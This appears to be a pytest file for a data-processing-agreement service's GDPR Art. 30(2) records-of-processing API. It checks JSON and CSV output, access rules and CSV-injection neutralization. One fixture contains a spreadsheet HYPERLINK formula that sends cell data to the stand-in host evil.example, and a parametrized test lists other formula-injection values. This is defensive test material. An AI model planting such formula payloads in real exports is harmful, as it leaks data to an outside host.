"""Records of processing (`GET /api/v1/records-of-processing`): the processor's Art. 30(2) record per controller
tenant, JSON and CSV, checked field by field against the executed DPA, the sub-processors it authorized and the
tenant's transfers; legal's all-tenants export; who may read what; CSV injection; bad input."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from typing import Any

import pytest

from dpa_service.core import registry
from dpa_service.core.clock import utcnow
from dpa_service.core.db import Database, Scope
from dpa_service.obligations import records, records_csv
from tests.helpers.agreements import approve_standard_dpa, to_status
from tests.helpers.api import Api

PATH = "/records-of-processing"
PROFILE = {
    "contact_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',  # a formula: must not run in a spreadsheet
    "contact_phone": "+49 30 1234567",
    "dpo_name": "Dora Protect",
    "dpo_email": "dpo@tenant.example",
    "eu_representative_name": "Rep Europe BV",
    "eu_representative_address": "Herengracht 1, Amsterdam",
    "eu_representative_email": "rep@rep.example",
}
TRANSFER = {
    "importer": "Lingua Translations Ltd",
    "destination_country": "IN",
    "data_categories": ["chat transcripts", "visitor names"],
    "mechanism": "scc-2021",
    "start_date": "2025-01-01",
    "tia_reference": "TIA-2025-07",
    "supplementary_measures": "Pseudonymised before export",
}


def rows(response: Any) -> list[dict[str, str]]:
    assert response.headers["content-type"] == "text/csv; charset=utf-8", response.headers
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    reader = csv.DictReader(io.StringIO(response.text))
    assert reader.fieldnames == records_csv.HEADER
    return list(reader)


def joined(values: list[str]) -> str:
    return "; ".join(values)


async def audit_actions(api: Api, **params: Any) -> list[str]:
    return [e["action"] for e in await api.all("/audit-events", **params)]


async def executed_tenant_with_transfers(admin: Api, legal: Api) -> dict[str, Any]:
    """A tenant with a profile naming its DPO and representative, an executed DPA, one more transfer of its own
    and one that has ended; what the record must say, read back from the API."""
    owner = await admin.new_tenant()
    assert (await owner.patch("/tenant", PROFILE)).status_code == 200
    executed = await to_status(owner, legal, "executed")
    added = (await owner.post("/transfers", TRANSFER)).json()
    ended = (
        await owner.post("/transfers", {**TRANSFER, "importer": "Old Importer", "start_date": "2020-01-01"})
    ).json()
    yesterday = (utcnow().date() - timedelta(days=1)).isoformat()
    assert (await owner.patch(f"/transfers/{ended['id']}", {"end_date": yesterday})).status_code == 200
    return {
        "owner": owner,
        "executed": executed,
        "added": added["id"],
        "ended": ended["id"],
        "register": [t for t in (await owner.get("/transfers")).json()["items"] if t["id"] != ended["id"]],
        "authorized": (await owner.get("/tenant/subprocessors")).json(),
    }


def assert_record_matches(record: dict[str, Any], facts: dict[str, Any]) -> None:
    """Field by field against the executed DPA's variables (Annex I), its authorized list (Annex III), the
    tenant's profile and transfer register, the processor's registry entry and the template's Annex II."""
    executed, authorized, variables = facts["executed"], facts["authorized"], facts["executed"]["variables"]
    # Annex I.A: the parties, as executed, with the profile's DPO and representative (Art. 30(2)(a)).
    assert (record["tenant_id"], record["agreement_id"]) == (facts["owner"].tenant_id, executed["id"])
    assert (record["template_key"], record["template_version"]) == ("standard-dpa", executed["template_version"])
    assert (record["effective_date"], record["document_sha256"]) == (
        executed["effective_date"],
        executed["document_sha256"],
    )
    controller = record["controller"]
    for field in ("address", "country", "contact_email", "registration_number"):
        assert controller[field] == variables["controller"][field], field
    assert controller["name"] == variables["controller"]["legal_name"]
    assert controller["contact_name"] == PROFILE["contact_name"]
    assert controller["dpo"] == {"name": "Dora Protect", "email": "dpo@tenant.example", "address": None}
    assert controller["representative"] == {
        "name": "Rep Europe BV",
        "email": "rep@rep.example",
        "address": "Herengracht 1, Amsterdam",
    }
    processor = registry.processor()
    assert (record["processor"]["name"], record["processor"]["address"]) == (
        processor["legal_name"],
        processor["address"],
    )
    assert record["processor"]["dpo"]["email"] == processor["dpo"]["email"]
    # Annex I.B: the categories of processing (Art. 30(2)(b)).
    processing = variables["processing"]
    for field in ("subject_matter", "nature_and_purpose", "duration", "retention"):
        assert record["processing"][field] == processing[field], field
    for field in ("data_subject_categories", "personal_data_categories"):
        assert record["processing"][field] == processing[field], field
    assert record["processing"]["special_categories"] == processing.get("special_categories", [])
    assert record["transfer_mechanisms"] == variables["transfers"]["mechanisms"]
    # Annex III: the authorized sub-processors.
    version = record["subprocessors"]["version"]
    assert version == authorized["authorized_version"] == executed["subprocessor_list_version"]
    fields = ("name", "entity", "purpose", "locations", "data_categories", "transfer_mechanism")
    assert [{f: s[f] for f in fields} for s in record["subprocessors"]["items"]] == [
        {f: s[f] for f in fields} for s in authorized["items"]
    ]
    # The transfer register (not ended) with the safeguards (Art. 30(2)(c)).
    assert {t["id"] for t in record["transfers"]} == {t["id"] for t in facts["register"]}
    assert facts["ended"] not in {t["id"] for t in record["transfers"]}
    mine = next(t for t in record["transfers"] if t["id"] == facts["added"])
    scc = registry.mechanisms()["scc-2021"]
    assert (mine["importer"], mine["destination_country"], mine["data_categories"]) == (
        "Lingua Translations Ltd",
        "IN",
        ["chat transcripts", "visitor names"],
    )
    assert (mine["mechanism_name"], mine["legal_reference"], mine["tia_reference"]) == (
        scc.name,
        scc.legal_reference,
        "TIA-2025-07",
    )
    assert scc.legal_reference in mine["safeguards"] and "Pseudonymised before export" in mine["safeguards"]
    # Annex II: a general description of the security measures (Art. 30(2)(d)), from the template itself.
    measures = record["security_measures"]
    assert measures["areas"][:3] == ["Governance", "Encryption in transit", "Encryption at rest"]
    assert len(measures["areas"]) == 15 and measures["summary"].startswith("The Processor implements")


def assert_row_matches(row: dict[str, str], record: dict[str, Any], facts: dict[str, Any]) -> None:
    """The CSV row says what the JSON record says, lists joined by "; ", formulas neutralized."""
    variables, authorized = facts["executed"]["variables"], facts["authorized"]
    processing = variables["processing"]
    assert (row["tenant_id"], row["agreement_id"], row["controller_name"]) == (
        facts["owner"].tenant_id,
        facts["executed"]["id"],
        variables["controller"]["legal_name"],
    )
    assert row["controller_address"] == variables["controller"]["address"]
    assert row["controller_dpo"] == "Dora Protect <dpo@tenant.example>"
    assert row["controller_representative"] == "Rep Europe BV <rep@rep.example>, Herengracht 1, Amsterdam"
    assert row["subject_matter"] == processing["subject_matter"]
    assert row["data_subject_categories"] == joined(processing["data_subject_categories"])
    assert row["personal_data_categories"] == joined(processing["personal_data_categories"])
    assert row["transfer_mechanisms"] == joined(variables["transfers"]["mechanisms"])
    assert row["subprocessor_list_version"] == str(authorized["authorized_version"])
    assert row["subprocessors"].split("; ") == [
        f"{s['name']} ({', '.join(s['locations'])}: {s['transfer_mechanism'] or 'none required (EEA)'})"
        for s in authorized["items"]
    ]
    assert "Lingua Translations Ltd (IN): EU Standard Contractual Clauses (2021), TIA TIA-2025-07" in row["transfers"]
    assert "Old Importer" not in row["transfers"]
    assert row["security_measures"] == joined(record["security_measures"]["areas"])
    # CSV injection (OWASP): a cell that would start a formula starts with an apostrophe instead.
    assert row["controller_contact_name"] == "'" + PROFILE["contact_name"]
    assert row["controller_contact_phone"] == "'+49 30 1234567"


@pytest.mark.shipped_dpa  # the security measures come from the template's Annex II
async def test_records_match_each_executed_dpa_and_legal_exports_every_tenant(admin: Api, db: Database) -> None:
    """Must show 4, on two executed DPAs (each costs a render and a seal): one tenant's JSON and CSV field by field,
    legal's all-tenants CSV (streamed in batches) and JSON (paged), and no Subscriber reading another's rows."""
    await approve_standard_dpa(db)
    legal = await admin.new_staff("legal")
    facts = await executed_tenant_with_transfers(admin, legal)
    first, second, without = facts["owner"], await admin.new_tenant(), await admin.new_tenant()
    await to_status(second, legal, "executed")

    answer = await first.get(PATH)
    assert answer.status_code == 200, answer.text
    assert answer.json()["next_cursor"] is None
    [record] = answer.json()["items"]
    assert_record_matches(record, facts)
    exported = await first.get(PATH, format="csv")
    assert exported.status_code == 200, exported.text
    [row] = rows(exported)
    assert_row_matches(row, record, facts)
    # `Accept: text/csv` asks for CSV too; legal reads the same record with `?tenant_id=`.
    accepted = await first.client.get(
        "/api/v1" + PATH, headers={"Authorization": f"Bearer {first.key}", "Accept": "text/csv"}
    )
    assert rows(accepted) == [row]
    assert (await legal.get(PATH, tenant_id=first.tenant_id)).json()["items"] == [record]
    # Each of those exports is one event in the tenant's chain, the owner's and legal's alike.
    assert (await audit_actions(first)).count(records.EXPORTED) == 4

    # Legal's all-tenants CSV: a header and one row per tenant with an executed DPA (none for `without`).
    executed_ids = sorted([first.tenant_id, second.tenant_id])
    everyone = await legal.get(PATH, format="csv")
    assert everyone.status_code == 200, everyone.text
    all_rows = rows(everyone)
    assert [r["tenant_id"] for r in all_rows] == executed_ids
    assert next(r for r in all_rows if r["tenant_id"] == first.tenant_id) == row
    # Streamed in batches: the header, then one chunk per batch of records (here batches of one).
    chunks = [chunk async for chunk in records.csv_chunks(db, Scope.system(), tenant=None, batch=1)]
    assert len(chunks) == 3 and b"".join(chunks).decode() == everyone.text
    # JSON: the catalogue-like envelope, paged.
    page = (await legal.get(PATH, limit=1)).json()
    assert [r["tenant_id"] for r in page["items"]] == executed_ids[:1] and page["next_cursor"]
    rest = (await legal.get(PATH, limit=1, cursor=page["next_cursor"])).json()
    assert [r["tenant_id"] for r in rest["items"]] == executed_ids[1:] and rest["next_cursor"] is None
    # The all-tenants exports are recorded in the platform chain, not in a tenant's.
    assert (await audit_actions(legal)).count(records.EXPORTED) == 3
    assert (await audit_actions(legal, tenant_id=first.tenant_id)).count(records.EXPORTED) == 4

    # A Subscriber's `tenant_id` is ignored: it gets its own record, never another tenant's.
    for intruder, own in ((second, [second.tenant_id]), (without, [])):
        mine = (await intruder.get(PATH, tenant_id=first.tenant_id)).json()
        assert [r["tenant_id"] for r in mine["items"]] == own
        exported = await intruder.get(PATH, format="csv", tenant_id=first.tenant_id)
        assert [r["tenant_id"] for r in rows(exported)] == own
        assert first.tenant_id not in exported.text and first.tenant_id not in str(mine)


async def test_a_tenant_without_an_executed_dpa_has_an_empty_record(admin: Api) -> None:
    owner = await admin.new_tenant()
    member = await owner.new_user("member")
    assert (await member.get(PATH)).json() == {"items": [], "next_cursor": None}
    assert rows(await member.get(PATH, format="csv")) == []
    assert (await owner.get(PATH)).json()["items"] == []
    assert (await audit_actions(owner)).count(records.EXPORTED) == 3


async def test_only_subscribers_and_legal_read_records_and_bad_input_is_422(admin: Api) -> None:
    owner, legal = await admin.new_tenant(), await admin.new_staff("legal")
    for staff in (await admin.new_staff("sales"), admin):
        assert (await staff.get(PATH)).status_code == 403
        assert (await staff.get(PATH, format="csv")).status_code == 403
    for caller in (owner, legal):
        bad = await caller.get(PATH, format="xlsx")
        assert bad.status_code == 422
        assert [e["field"] for e in bad.json()["errors"]] == ["format"]
    assert (await legal.get(PATH, cursor="!!")).status_code == 422
    assert (await legal.get(PATH, limit=201)).status_code == 422
    unknown = await legal.get(PATH, tenant_id="00000000-0000-4000-8000-000000000000", format="csv")
    assert unknown.status_code == 404
    # Nothing was recorded for refused requests.
    assert records.EXPORTED not in await audit_actions(legal)
    assert records.EXPORTED not in await audit_actions(owner)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=SUM(A1:A2)", "'=SUM(A1:A2)"),
        ("+31 20 555", "'+31 20 555"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("Plain, text", "Plain, text"),
        ("a=b", "a=b"),
        (None, ""),
        (date(2026, 1, 2), "2026-01-02"),
    ],
)
def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralized(value: Any, written: str) -> None:
    assert records_csv.neutralized(value) == written
